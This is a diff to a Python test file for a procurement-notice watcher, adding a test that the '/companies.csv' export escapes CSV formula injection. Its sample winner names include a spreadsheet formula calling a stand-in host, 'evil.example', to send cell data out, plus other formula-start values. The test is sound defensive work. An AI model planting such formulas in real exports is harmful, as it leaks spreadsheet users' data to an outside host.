@@ -3,6 +3,7 @@ the issue's table (memory, disk, mail, connections, records that cannot be read)
 
 from __future__ import annotations
 
+import csv
 import gzip
 import http.client
 import json
@@ -16,6 +17,7 @@ import time
 import tracemalloc
 import zlib
 from collections.abc import Callable
+from io import StringIO
 from pathlib import Path
 from typing import Any
 
@@ -23,17 +25,22 @@ import httpx
 import pytest
 from click.testing import CliRunner
 from sqlalchemy import select
+from starlette.testclient import TestClient
 
 from tests.helpers import BoampPortal, runtime_env
 from tests.loopback import LoopbackServer, Reply
 from tests.test_documents import DocsPortal, documents, set_notice, sync
+from tests.test_pipeline import sources_yaml
+from tests.test_timeline import award
 from watcher.cli import main
 from watcher.db.models import Notice
 from watcher.errors import TooLargeError
+from watcher.pipeline.cycle import after_polls
 from watcher.pipeline.poll import run_sources
 from watcher.pipeline.runtime import Runtime
 from watcher.records import RunResult
 from watcher.sources.http import Fetcher
+from watcher.web.server import create_app
 
 MiB = 1024 * 1024
 FIXTURES = Path(__file__).parent / "fixtures"
@@ -433,3 +440,36 @@ def test_row2_a_notice_with_1500_winners_is_cut_and_costs_little_disk(
     stored = _stored(runtime)["800001-2026"]
     assert len(stored.snapshot["winners"]) == 200  # WATCHER_NOTICE_MAX_WINNERS's default
     assert "cut: 1500 winners, the first 200 kept" in stored.snapshot["flags"]
+
+
+# Row 6: winner names that a spreadsheet would run as formulas, in `/companies.csv`.
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?x="&A1)',
+    "+SUM(1;2) Nettoyage SARL",
+    "-2+3 Services SAS",
+    "@CMD Gardiennage",
+]
+
+
+def test_row6_companies_csv_cells_never_start_a_formula(
+    make_runtime: Callable[..., Runtime],
+) -> None:
+    portal = BoampPortal()
+    with LoopbackServer(portal) as server:
+        runtime = make_runtime(sources_yaml(server.url))
+        sources = runtime.config.build()
+        after_polls(runtime, run_sources(sources, runtime.context()))
+        record = award(portal.records[0])
+        record["titulaire"] = FORMULAS
+        portal.records.append(record)
+        after_polls(runtime, run_sources(sources, runtime.context()))
+    with TestClient(create_app(runtime)) as client:
+        table = client.get("/companies.csv")
+    rows = list(csv.reader(StringIO(table.text)))[1:]
+    names = {row[1] for row in rows}
+    assert {"'" + name for name in FORMULAS} <= names, names
+    for row in rows:
+        for cell in row:
+            assert not cell.startswith(("=", "+", "@", "\t", "\r")), row
+            assert not cell.startswith("-") or cell.replace(".", "").lstrip("-").isdigit(), row
